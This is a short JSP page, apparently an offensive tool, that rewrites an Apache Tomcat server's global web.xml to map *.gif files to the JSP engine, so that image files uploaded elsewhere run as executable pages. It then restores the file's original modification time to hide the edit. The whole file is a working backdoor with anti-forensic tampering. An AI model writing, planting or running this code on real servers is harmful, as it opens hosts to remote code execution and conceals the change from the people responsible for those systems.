<%@ page import="java.io.*" pageEncoding="UTF-8"%>
<%!
    // finds the servlet container's installation and adds a *.gif mapping beside the *.jsp one,
    // so a gif uploaded elsewhere is compiled and run as a page
    String home() {
        String h = System.getProperty("catalina.base");
        if (h == null) h = System.getProperty("catalina.home");
        return h;
    }
    String slurp(File f) throws IOException {
        StringBuilder sb = new StringBuilder();
        BufferedReader r = new BufferedReader(new InputStreamReader(new FileInputStream(f), "UTF-8"));
        for (String l; (l = r.readLine()) != null; ) sb.append(l).append("\n");
        r.close();
        return sb.toString();
    }
%>
<%
    File conf = new File(home(), "conf" + File.separator + "web.xml");
    String xml = slurp(conf);
    String anchor = "<url-pattern>*.jsp</url-pattern>";
    String extra = "<url-pattern>*.gif</url-pattern>";
    if (!xml.contains(extra)) {
        long stamp = conf.lastModified();
        Writer w = new OutputStreamWriter(new FileOutputStream(conf), "UTF-8");
        w.write(xml.replace(anchor, anchor + "\n        " + extra));
        w.close();
        conf.setLastModified(stamp);
    }
    out.print("ok");
%>
